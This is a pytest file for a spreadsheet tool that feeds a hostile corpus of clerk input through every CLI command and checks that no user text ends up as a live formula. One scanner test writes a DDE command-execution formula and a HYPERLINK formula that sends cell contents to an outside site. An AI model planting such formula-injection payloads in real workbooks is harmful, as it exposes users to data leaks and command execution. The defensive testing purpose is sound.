"""Issue 10, "How we will know": the hostile corpus (tests/hostile_corpus.py, every
class of the issue) run through every command — check, consolidate (with and
without --master, --json), new (--from, --for-unit, every text option), recalc,
add-project, evaluate, ledger — each in its own process, as a clerk runs it.

For every run: no traceback and no crash log, no hang (a timeout per run), the
exit code one its --help documents (and the one expected), every JSON written
strict (`json.loads` refusing NaN/Infinity), and no formula in any workbook
part written carrying clerk text: every formula-bearing element of every XML
part (<f>, chart <c:f>, validations, conditional formats, defined names) holds
only what xltools composes — its own functions, references to the workbook's
own sheets — and every string cell that starts like a formula carries
quotePrefix.  Then per command: each bad file named (with sheet and cell where
they apply), the other files' projects all there (counted against a clean run).

Runs of one stage go in parallel (each is a child process)."""
from __future__ import annotations

import json
import os
import re
import subprocess
import sys
import time
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any, Optional

import pytest

import hostile_corpus as H
from xltools.cli import EXIT_CODES

def _typable(text: str) -> bool:
    try:
        text.encode("utf-8")
    except UnicodeEncodeError:
        return False
    return "\x00" not in text


#: every clerk text goes into every option; the runs that take them are batched
#: (`_BATCH`: argv through JSON, as a Windows command line or a button can pass a
#: lone surrogate; no real argv holds a NUL) — the one own-process run with
#: options (new --from the corpus) gets those a POSIX command line can carry
OPTION_TEXTS = [t for t, _ in H.HOSTILE_TEXT]
TYPABLE_TEXTS = [t for t in OPTION_TEXTS if _typable(t)]
#: a run taking longer has hung (the slowest, new --from over the corpus, takes ~5 s)
TIMEOUT = 180


# ------------------------------------------------------------------ running
@dataclass
class Run:
    """One command run: its argv (as typed), exit code, terminal text and the
    files it was expected to write."""

    id: str
    argv: list[str]
    expect: set[int]
    outputs: list[Path] = field(default_factory=list)   # workbooks to scan
    jsons: list[Path] = field(default_factory=list)
    unchanged: list[Path] = field(default_factory=list)  # inputs that must keep their bytes
    alone: bool = False  # in its own process (reads the whole corpus), else in a batch child
    scans: dict = field(default_factory=dict)  # output → (formula problems, unprefixed formula-like text)
    rc: Optional[int] = None
    out: str = ""
    err: str = ""
    seconds: float = 0.0
    before: dict = field(default_factory=dict)

    @property
    def command(self) -> str:
        return self.argv[0]

    @property
    def text(self) -> str:
        return self.out + "\n" + self.err


def _env(logs: Path) -> dict:
    return dict(os.environ, XLTOOLS_LOG_DIR=str(logs), PYTHONIOENCODING="utf-8")


def _execute(run: Run, cwd: Path, logs: Path) -> Run:
    """`xltools …` in its own process."""
    run.before = {p: p.read_bytes() for p in run.unchanged if p.is_file()}
    start = time.monotonic()
    try:
        proc = subprocess.run([sys.executable, "-m", "xltools.cli", *run.argv], cwd=cwd, env=_env(logs),
                              capture_output=True, timeout=TIMEOUT)
    except subprocess.TimeoutExpired:
        run.rc, run.err = -1, f"hung: no end after {TIMEOUT} s"
        return run
    run.seconds = time.monotonic() - start
    run.rc = proc.returncode
    run.out = proc.stdout.decode("utf-8", "backslashreplace")
    run.err = proc.stderr.decode("utf-8", "backslashreplace")
    return run


#: A child that runs several commands through `xltools.cli.main` one after the
#: other (an import paid once): each with its own captured terminal and a hard
#: hang guard (faulthandler ends the child, the parent names the run).  Its argv
#: come through a JSON file, so they may hold what no command line can (a NUL,
#: a lone surrogate — as text a button passes).
_BATCH = r"""
import contextlib, faulthandler, io, json, sys, time, traceback
from xltools.cli import main
runs, results, timeout = json.load(open(sys.argv[1], encoding="utf-8")), sys.argv[2], float(sys.argv[3])
for argv in runs:
    out, err = io.StringIO(), io.StringIO()
    faulthandler.dump_traceback_later(timeout, exit=True)
    start = time.monotonic()
    try:
        with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
            rc = main(argv)
    except BaseException:
        rc = -2
        err.write(traceback.format_exc())
    faulthandler.cancel_dump_traceback_later()
    with open(results, "a", encoding="utf-8") as fh:
        fh.write(json.dumps({"rc": rc, "out": out.getvalue(), "err": err.getvalue(),
                             "seconds": time.monotonic() - start}) + "\n")
"""


def _execute_batch(runs: list[Run], cwd: Path, logs: Path) -> list[Run]:
    """Several runs in one child (`_BATCH`)."""
    import tempfile

    for run in runs:
        run.before = {p: p.read_bytes() for p in run.unchanged if p.is_file()}
    with tempfile.TemporaryDirectory() as tmp:
        argvs, results = Path(tmp) / "argv.json", Path(tmp) / "results.jsonl"
        argvs.write_text(json.dumps([r.argv for r in runs]), encoding="utf-8")
        try:
            proc = subprocess.run([sys.executable, "-c", _BATCH, str(argvs), str(results), str(TIMEOUT)],
                                  cwd=cwd, env=_env(logs), capture_output=True, timeout=TIMEOUT * len(runs))
            tail = proc.stderr.decode("utf-8", "backslashreplace")
        except subprocess.TimeoutExpired:
            tail = "hung"
        done = [json.loads(line) for line in results.read_text(encoding="utf-8").splitlines()] \
            if results.exists() else []
    for k, run in enumerate(runs):
        if k < len(done):
            run.rc, run.out, run.err, run.seconds = (done[k][key] for key in ("rc", "out", "err", "seconds"))
        elif k == len(done):
            run.rc, run.err = -1, f"hung or died: {tail[-3000:]}"
        else:
            run.rc, run.err = -3, "not run: an earlier run of its batch hung"
    return runs


class Campaign:
    """The corpus and every run over it, in stages (a later stage uses what an
    earlier one wrote)."""

    def __init__(self, base: Path) -> None:
        self.base = base
        self.subs = base / "报送"
        self.entries = H.build_corpus(self.subs)
        self.clean = base / "干净"
        H._seed_forms(self.clean)
        self.department = H.department_workbooks(base / "部门")
        self.not_masters = H.not_masters(base / "不是主表")
        self.out = base / "输出"
        self.out.mkdir()
        self.logs = base / "logs"
        self.runs: dict[str, Run] = {}

    def stage(self, runs: list[Run]) -> None:
        """Runs reading the whole corpus (decompression bombs included) each in
        its own process; the light ones in a few batch children."""
        workers = max(2, min(4, os.cpu_count() or 2))
        alone = [r for r in runs if r.alone]
        light = [r for r in runs if not r.alone]
        batches = [light[k::workers] for k in range(workers) if light[k::workers]]
        with ThreadPoolExecutor(workers) as pool:
            jobs = [pool.submit(_execute, r, self.base, self.logs) for r in alone]
            jobs += [pool.submit(_execute_batch, b, self.base, self.logs) for b in batches]
            for job in jobs:
                result = job.result()
                for run in (result if isinstance(result, list) else [result]):
                    assert run.id not in self.runs, run.id
                    self.runs[run.id] = run
        for run in runs:  # each workbook as this run left it (a later stage may rewrite it)
            for path in run.outputs:
                if path.exists():
                    run.scans[path] = (H.formula_problems(path, _clerk_texts()), H.unprefixed_formula_text(path))

    def __getitem__(self, run_id: str) -> Run:
        return self.runs[run_id]


def _o(c: Campaign, name: str) -> Path:
    return c.out / name


def _stage1(c: Campaign) -> list[Run]:
    """Everything that reads only the corpus."""
    runs = [
        Run("check-clean", ["check", str(c.clean), "--json", str(_o(c, "clean.json"))], {0, 1},
            jsons=[_o(c, "clean.json")]),
        Run("check-corpus", ["check", str(c.subs), "--json", str(_o(c, "check.json"))], {2},
            jsons=[_o(c, "check.json")], alone=True),
        Run("consolidate-clean", ["consolidate", str(c.clean), "-o", str(_o(c, "clean.xlsx")), "--json",
                                  str(_o(c, "clean-c.json")), "--quiet"], {0, 1},
            outputs=[_o(c, "clean.xlsx")], jsons=[_o(c, "clean-c.json")]),
        Run("consolidate-corpus", ["consolidate", str(c.subs), "-o", str(_o(c, "汇总.xlsx")), "--json",
                                   str(_o(c, "汇总.json")), "--quiet"], {2},
            outputs=[_o(c, "汇总.xlsx")], jsons=[_o(c, "汇总.json")], alone=True),
        Run("new-from-corpus", ["new", str(_o(c, "读入.xlsm")), f"--department={H.FORMULA_TEXT[0][0]}",
                                "--year", "2022", "--units=" + ",".join(TYPABLE_TEXTS),
                                "--from", str(c.subs)], {0}, outputs=[_o(c, "读入.xlsm")], alone=True),
        Run("new-from-corpus-nomacros", ["new", str(_o(c, "读入.xlsx")), "--no-macros", "--from", str(c.subs)],
            {0}, outputs=[_o(c, "读入.xlsx")], alone=True),
    ]
    # one class at a time: the exit code each class earns on its own
    by_kind: dict[str, list[str]] = {}
    for e in c.entries:
        if e.kind != "folder" and str(c.subs / e.name) not in by_kind.get(e.kind, []):
            by_kind.setdefault(e.kind, []).append(str(c.subs / e.name))
    expect = {"formula_text": {1}, "control_text": {0, 1}, "numbers": {1}, "money_text": {1},
              "cached_error": {1}, "oversized": {2}, "broken": {2}}
    for kind, files in by_kind.items():
        runs.append(Run(f"check-{kind}", ["check", *files, "--json", str(_o(c, f"check-{kind}.json"))],
                        expect[kind], jsons=[_o(c, f"check-{kind}.json")], alone=kind == "oversized"))
    # every clerk text in every option of `new`, a master and a unit's form
    texts = OPTION_TEXTS
    for k, text in enumerate(texts):
        nxt = texts[(k + 1) % len(texts)]
        runs.append(Run(f"new-options-{k}", [
            "new", str(_o(c, f"选项{k}.xlsx")), "--no-macros", f"--department={text}", "--year", "2022",
            f"--units={text},{nxt}", f"--filler={text}", f"--phone={nxt}", "--projects", "1"], {0},
            outputs=[_o(c, f"选项{k}.xlsx")]))
        runs.append(Run(f"new-for-unit-{k}", [
            "new", str(_o(c, f"单位表{k}.xlsx")), f"--for-unit={text}", f"--department={nxt}", f"--filler={text}",
            f"--phone={text}", "--projects", "2"], {0}, outputs=[_o(c, f"单位表{k}.xlsx")]))
    # evaluate: department workbooks with clerk text and odd numbers
    for k, (path, _why) in enumerate(c.department):
        runs.append(Run(f"evaluate-{path.stem}", ["evaluate", str(path), "--json", str(_o(c, f"评价{k}.json"))],
                        {0, 1}, jsons=[_o(c, f"评价{k}.json")], unchanged=[path]))
    # masters that are not masters, and ledgers that are not ledgers
    for k, (path, _why) in enumerate(c.not_masters):
        runs += [
            Run(f"recalc-not-master-{k}", ["recalc", str(path)], {2}, unchanged=[path]),
            Run(f"add-project-not-master-{k}", ["add-project", str(path)], {2}, unchanged=[path]),
            Run(f"consolidate-not-master-{k}", ["consolidate", str(c.clean), "--master", str(path), "-o",
                                                str(_o(c, f"nm{k}.xlsx")), "--quiet"], {2}, unchanged=[path]),
            Run(f"evaluate-not-master-{k}", ["evaluate", str(path)], {2}, unchanged=[path]),
            Run(f"ledger-not-master-{k}", ["ledger", "--ledger", str(_o(c, "none.sqlite")), "--master", str(path)],
                {2}, unchanged=[path]),
        ]
    for name, maker in LEDGERS:
        path = c.base / "台账" / name
        path.parent.mkdir(exist_ok=True)
        maker(path)
        runs.append(Run(f"ledger-{name}", ["ledger", "--ledger", str(path)], {2}, unchanged=[path]))
        runs.append(Run(f"consolidate-ledger-{name}", ["consolidate", str(c.clean), "-o", str(_o(c, f"l-{name}.xlsx")),
                                                       "--ledger", str(path), "--quiet"], {2}, unchanged=[path]))
    return runs


def _stage2(c: Campaign) -> list[Run]:
    """What uses stage 1's outputs: the masters written from the corpus and
    from clerk options, the corpus consolidation's ledger."""
    master = _o(c, "读入.xlsm")
    runs = [
        Run("consolidate-corpus-master", ["consolidate", str(c.subs), "--master", str(master), "-o",
                                          str(_o(c, "汇总M.xlsx")), "--json", str(_o(c, "汇总M.json")), "--quiet"],
            {2}, outputs=[_o(c, "汇总M.xlsx"), master], jsons=[_o(c, "汇总M.json")], alone=True),
        Run("ledger-corpus", ["ledger", "--ledger", str(_o(c, "汇总.ledger.sqlite"))], {0}),
        Run("ledger-corpus-all", ["ledger", "--ledger", str(_o(c, "汇总.ledger.sqlite")), "--all",
                                  "--master", str(_o(c, "选项0.xlsx"))], {1}),
        Run("recalc-corpus-nomacros", ["recalc", str(_o(c, "读入.xlsx"))], {1}, outputs=[_o(c, "读入.xlsx")]),
        Run("evaluate-corpus-master", ["evaluate", str(_o(c, "读入.xlsx")), "--json", str(_o(c, "读入评价.json"))],
            {0, 1}, jsons=[_o(c, "读入评价.json")]),
    ]
    for k in range(len(OPTION_TEXTS)):
        runs.append(Run(f"recalc-options-{k}", ["recalc", str(_o(c, f"选项{k}.xlsx"))], {0, 1},
                        outputs=[_o(c, f"选项{k}.xlsx")]))
    return runs


def _stage3(c: Campaign) -> list[Run]:
    """The master after the consolidation: recalc it, add projects named by clerks."""
    master = _o(c, "读入.xlsm")
    runs = [Run("recalc-corpus-master", ["recalc", str(master)], {1}, outputs=[master])]
    return runs


def _stage4(c: Campaign) -> list[Run]:
    master = _o(c, "读入.xlsm")
    runs = [Run("add-project-blank", ["add-project", str(master)], {0}, outputs=[master])]
    for k, text in enumerate(OPTION_TEXTS):
        # a clerk names the new sheet: formula-like names are refused, the rest
        # (Excel's rules permitting) kept
        runs.append(Run(f"add-project-name-{k}", ["add-project", str(_o(c, f"选项{k}.xlsx")), f"--name={text}"],
                        {0, 2}, outputs=[_o(c, f"选项{k}.xlsx")]))
    return runs


# ledgers that are not ledgers: what --ledger may point at
def _garbage(path: Path) -> None:
    path.write_bytes(os.urandom(2048))


def _truncated(path: Path) -> None:
    import sqlite3

    tmp = path.with_suffix(".full")
    con = sqlite3.connect(tmp)
    con.executescript("CREATE TABLE files(id INTEGER PRIMARY KEY, path TEXT);"
                      + "".join(f"INSERT INTO files(path) VALUES('{k}');" for k in range(2000)))
    con.commit()
    con.close()
    path.write_bytes(tmp.read_bytes()[:5000])
    tmp.unlink()


def _foreign(path: Path) -> None:
    import sqlite3

    con = sqlite3.connect(path)
    con.execute("CREATE TABLE 通讯录(姓名 TEXT, 电话 TEXT)")
    con.execute("INSERT INTO 通讯录 VALUES ('胡静', '28683269')")
    con.commit()
    con.close()


def _json_ledger(path: Path) -> None:
    path.write_text('{"files": []}', encoding="utf-8")


LEDGERS = [
    ("乱码.sqlite", _garbage),         # a file overwritten by something else
    ("截断.sqlite", _truncated),       # copied from a full USB stick
    ("通讯录.sqlite", _foreign),       # another program's database
    ("结果.json.sqlite", _json_ledger),  # a JSON file renamed
]


@pytest.fixture(scope="module")
def campaign(tmp_path_factory) -> Campaign:
    c = Campaign(tmp_path_factory.mktemp("hostile"))
    for stage in (_stage1, _stage2, _stage3, _stage4):
        c.stage(stage(c))
    return c


# Static run ids (the tests are parametrized over them; the fixture must make each).
def _run_ids() -> list[str]:
    ids = ["check-clean", "check-corpus", "consolidate-clean", "consolidate-corpus", "new-from-corpus",
           "new-from-corpus-nomacros"]
    ids += [f"check-{k}" for k in ("formula_text", "control_text", "numbers", "money_text", "cached_error",
                                   "oversized", "broken")]
    n = len(OPTION_TEXTS)
    ids += [f"new-options-{k}" for k in range(n)] + [f"new-for-unit-{k}" for k in range(n)]
    ids += ["evaluate-部门_" + v for v in H.DEPARTMENT_VARIANTS]
    for k in range(H.NOT_MASTERS):
        ids += [f"{cmd}-not-master-{k}" for cmd in ("recalc", "add-project", "consolidate", "evaluate", "ledger")]
    for name, _ in LEDGERS:
        ids += [f"ledger-{name}", f"consolidate-ledger-{name}"]
    ids += ["consolidate-corpus-master", "ledger-corpus", "ledger-corpus-all", "recalc-corpus-nomacros",
            "evaluate-corpus-master"]
    ids += [f"recalc-options-{k}" for k in range(n)]
    ids += ["recalc-corpus-master", "add-project-blank"] + [f"add-project-name-{k}" for k in range(n)]
    return ids


RUN_IDS = _run_ids()
COMMAND_OF = {"add-project": "add-project"}


def strict_json(path: Path) -> Any:
    def refuse(token: str) -> Any:
        raise ValueError(f"{path.name}: {token} is not JSON")

    text = path.read_text(encoding="utf-8")
    assert "NaN" not in re.sub(r'"(?:[^"\\]|\\.)*"', '""', text), path
    return json.loads(text, parse_constant=refuse)


# ------------------------------------------------------------------ every run
@pytest.mark.parametrize("run_id", RUN_IDS)
def test_run_ends_as_documented(campaign, run_id):
    """No hang, no traceback, no crash log; the exit code the command's --help
    lists and the one this input earns; inputs kept byte for byte."""
    run = campaign[run_id]
    assert run.rc != -1, f"{run_id} hung"
    assert "Traceback" not in run.text and "程序内部出错" not in run.text, run.text[-3000:]
    assert run.rc in EXIT_CODES[run.command], (run.rc, run.text[-2000:])
    assert run.rc in run.expect, (run.rc, run.text[-2000:])
    for path, data in run.before.items():
        assert path.read_bytes() == data, f"{path} was changed"
    if run.rc == 2 and run_id.split("-")[0] in ("recalc", "add", "evaluate", "ledger") and "not-master" in run_id:
        assert run.text.strip(), "refused without a word"


def test_no_crash_log(campaign):
    logs = list(campaign.logs.glob("*.log")) if campaign.logs.exists() else []
    assert not logs, logs[0].read_text(encoding="utf-8")[-3000:]


@pytest.mark.parametrize("run_id", RUN_IDS)
def test_json_is_strict(campaign, run_id):
    run = campaign[run_id]
    for path in run.jsons:
        if run.rc in (0, 1, 2) and path.exists():
            strict_json(path)
        elif run.rc in (0, 1):
            pytest.fail(f"{run_id}: {path.name} not written")


def _clerk_texts() -> list[str]:
    out = []
    for text, _ in H.HOSTILE_TEXT:
        out.append(text.strip())
    return out


@pytest.mark.parametrize("run_id", RUN_IDS)
def test_no_formula_carries_clerk_text(campaign, run_id):
    """Every workbook the run wrote, scanned right after it: only formulas
    xltools composes, formula-like text always a quotePrefix string."""
    run = campaign[run_id]
    for path in run.outputs:
        if path not in run.scans:
            assert run.rc == 2 or run_id.startswith("add-project-name"), f"{path.name} not written"
            continue
        problems, unprefixed = run.scans[path]
        assert not problems, problems[:5]
        assert not unprefixed, unprefixed[:5]


# ------------------------------------------------------------------ each bad file named, the rest complete
def _by_name(records: list[dict], entry: H.Entry) -> dict:
    found = [r for r in records if Path(r["path"]).name == entry.shown]
    assert len(found) == 1, (entry.shown, [Path(r["path"]).name for r in records])
    return found[0]


def _entries(campaign: Campaign) -> list[H.Entry]:
    """One entry per file (a file standing for several cases carries its form count on one)."""
    out: dict[str, H.Entry] = {}
    for e in campaign.entries:
        if e.name not in out or e.forms:
            out[e.name] = e
    return list(out.values())


@pytest.mark.parametrize("run_id", ["check-corpus", "consolidate-corpus", "consolidate-corpus-master"])
def test_every_file_has_its_record(campaign, run_id):
    """Every file of the folder: read with all its forms, or not read with its
    named reason — in the JSON and on the terminal."""
    run = campaign[run_id]
    doc = strict_json(run.jsons[0])
    projects = doc["projects"] if "projects" in doc else None
    for entry in _entries(campaign):
        rec = _by_name(doc["files"], entry)
        assert rec["status"] == entry.status, (entry.name, rec)
        if entry.status != "ok":
            assert entry.reason in (rec["error"] or ""), (entry.name, rec["error"])
            assert entry.shown in run.text, f"{entry.shown} not named on the terminal"
        elif projects is None:
            assert len(rec["projects"]) == entry.forms, entry.name
        else:
            assert rec["projects"] == entry.forms, entry.name


@pytest.mark.parametrize("run_id", ["check-corpus", "consolidate-corpus", "consolidate-corpus-master",
                                    "new-from-corpus"])
def test_other_files_complete(campaign, run_id):
    """The projects of every readable file are all there: the clean run's plus
    the corpus's readable forms."""
    clean = strict_json(campaign["check-clean"].jsons[0])
    seed = sum(len(f["projects"]) for f in clean["files"])
    assert seed == H.seed_form_count()
    want = seed + H.readable_forms(campaign.entries)
    run = campaign[run_id]
    if run_id == "new-from-corpus":
        assert f"其中从已有表读入 {want} 张" in run.out, run.out[-500:]
        return
    doc = strict_json(run.jsons[0])
    got = len(doc["projects"]) if "projects" in doc else sum(len(f["projects"]) for f in doc["files"])
    assert got == want
    if "department" in doc:
        clean_c = strict_json(campaign["consolidate-clean"].jsons[0])
        assert doc["department"]["projects"] == want
        units = {u["name"] for u in doc["units"]}
        assert {u["name"] for u in clean_c["units"]} <= units


CELL_CODES = {"numbers": {"value_unreadable", "negative_amount", "score_over_weight"}, "money_text": {"value_unreadable"},
              "cached_error": {"formula_error"}}


@pytest.mark.parametrize("run_id", ["check-corpus", "consolidate-corpus"])
def test_bad_values_named_on_their_cells(campaign, run_id):
    """1e26, inf, NaN, text in a money cell, a cached #REF!: each reported on its
    own sheet and cell, never silently dropped or read as empty."""
    doc = strict_json(campaign[run_id].jsons[0])
    if "projects" in doc:
        projects = doc["projects"]
    else:
        projects = [p for f in doc["files"] for p in f["projects"]]
    for entry in campaign.entries:
        for sheet, cell in entry.cells:
            form = next(p for p in projects if p["sheet"] == sheet)
            codes = {i["code"] for i in form["issues"] if i["cell"] == cell and i["sheet"] == sheet}
            assert codes & CELL_CODES[entry.kind], (entry.stands_for, sheet, cell, form["issues"])
            assert all(i["file"] for i in form["issues"])


def test_consolidation_workbook_lists_every_file(campaign):
    import openpyxl

    from xltools.consolidate import output as O

    wb = openpyxl.load_workbook(campaign["consolidate-corpus"].outputs[0], read_only=True)
    shown = " ".join(str(v) for row in wb[O.FILES_SHEET].iter_rows(values_only=True) for v in row if v)
    for entry in _entries(campaign):
        assert entry.shown in shown, entry.shown


def test_master_block_names_unreadable_files(campaign):
    from xltools.containers.workbook import load_book
    from xltools.master import layout as L

    grid = load_book(campaign["consolidate-corpus-master"].outputs[1]).sheet(L.SUMMARY_SHEET)
    text = " ".join(str(v) for row in grid.rows for v in row if v is not None)
    for entry in _entries(campaign):
        if entry.status == "error":
            assert entry.shown in text, entry.shown


def test_ledger_lists_every_file_read(campaign):
    run = campaign["ledger-corpus"]
    for entry in _entries(campaign):
        if entry.status != "skipped":
            assert Path(entry.shown).stem[:8] in run.out, entry.shown


def test_terminal_gets_no_control_characters(campaign):
    for run in campaign.runs.values():
        bad = re.findall(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]", run.out + run.err)
        assert not bad, (run.id, bad[:5])


def test_formula_like_sheet_names_refused_by_add_project(campaign):
    for k, text in enumerate(OPTION_TEXTS):
        run = campaign[f"add-project-name-{k}"]
        looks = text.lstrip(" \t\u3000").startswith(H.FORMULA_LIKE) or not text.isprintable() or "_x000B_" in text
        assert (run.rc == 2) == looks, (text, run.text)
        if run.rc == 2:
            assert "工作表名" in run.text


# what the clerk typed          as the readers give it back       as an output cell shows it
READ_BACK = {
    "市民中心\x0b大厅运转维护费": ("市民中心\x0b大厅运转维护费", "市民中心\n大厅运转维护费"),  # a line break stays one
    "窗口补贴\x07": ("窗口补贴\x07", "窗口补贴"),                      # Word's cell mark dropped
    "第一页\x0c第二页": ("第一页\x0c第二页", "第一页\n第二页"),
    "网络\x00安全": ("网络\x00安全", "网络安全"),
    "信创\ud800工程": ("信创_xD800_工程", "信创_xD800_工程"),          # the escape kept as written (calamine)
    "_x000B_字面": ("_x000B_字面", "_x000B_字面"),                      # seven characters, never decoded
}


def test_control_characters_read_and_shown_readable(campaign):
    """Each text pasted from Word comes back from both readers (the far-value
    file goes through the streaming one) and lands in the consolidation's
    detail sheet readable."""
    from xltools.consolidate import output as O
    from xltools.containers.workbook import load_book

    doc = strict_json(campaign["check-corpus"].jsons[0])
    names = {p["name"] for f in doc["files"] for p in f["projects"]}
    units = {p["unit"] for f in doc["files"] for p in f["projects"]}
    # read back as Excel does (openpyxl leaves an escaped underscore `_x005F_` undecoded in inline strings)
    grid = load_book(campaign["consolidate-corpus"].outputs[0]).sheet(O.DETAIL_SHEET)
    shown = {v for row in grid.rows for v in row if isinstance(v, str)}
    for typed, (read, cell) in READ_BACK.items():
        assert read in names | units, typed
        assert cell in shown, typed


def test_scanner_catches_a_leak(tmp_path):
    """The scan above would see a clerk's text written as a formula, and a
    formula-like string without quotePrefix."""
    import xlsxwriter

    path = tmp_path / "leak.xlsx"
    wb = xlsxwriter.Workbook(str(path), {"strings_to_formulas": False})
    ws = wb.add_worksheet("项目1")
    ws.write_formula("A1", '=HYPERLINK("http://x.cn/?"&A1,"点我")')
    ws.write_formula("A2", "=cmd|' /C calc'!A0")
    ws.write_string("A3", "=2+2")
    wb.close()
    problems = H.formula_problems(path, [H.FORMULA_TEXT[1][0]])
    assert any("HYPERLINK" in p for p in problems) and any("DDE" in p for p in problems)
    assert H.unprefixed_formula_text(path) == ["xl/worksheets/sheet1.xml!A3: '=2+2'"]
